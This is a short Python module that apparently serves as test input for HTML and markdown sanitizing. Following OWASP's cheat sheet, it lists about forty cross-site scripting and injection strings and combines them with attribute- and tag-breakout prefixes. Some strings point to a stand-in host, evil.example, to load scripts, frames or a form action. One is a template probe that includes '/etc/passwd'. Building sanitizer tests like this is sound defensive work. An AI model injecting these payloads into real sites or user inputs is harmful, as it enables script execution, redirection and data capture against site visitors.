"""What strangers may put into a name to make a page act, after OWASP's cheat sheet: forty ways in, three ways out."""

from __future__ import annotations

BAD = "http://evil.example/x"
WAYS = (
    "<script>alert(1)</script>", f"<script src={BAD}></script>", "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    f"<iframe src={BAD}></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", f"<link rel=stylesheet href={BAD}>",
    f"<meta http-equiv=refresh content='0;url={BAD}'>", f"<base href={BAD}>", f"<form action={BAD}><input name=a>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>", f"<object data={BAD}>", f"<embed src={BAD}>", "<math><mtext></form><script>alert(1)",
    "<style>@import 'http://evil.example/x';</style>", "<x style=background:url(javascript:alert(1))>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "<image xlink:href='javascript:alert(1)'>", "<use href='data:image/svg+xml,x#y'>",
    "<set attributeName=onload to=alert(1)>",
    "{{7*7}}", "{% include '/etc/passwd' %}", "${alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "[click](javascript:alert(1))", f"![x]({BAD})", f"<{BAD}>", BAD, "www.evil.example", "`code` **bold** # head",
    "| a | b |\n|---|---|\n| <b>x</b> | y |",
)  # fmt: skip
OUTS = ("", "\"' autofocus onfocus=alert(1) x='\">", "</title></style></script></text></svg>-->]]>")
PAYLOADS = tuple(out + way for way in WAYS for out in OUTS)
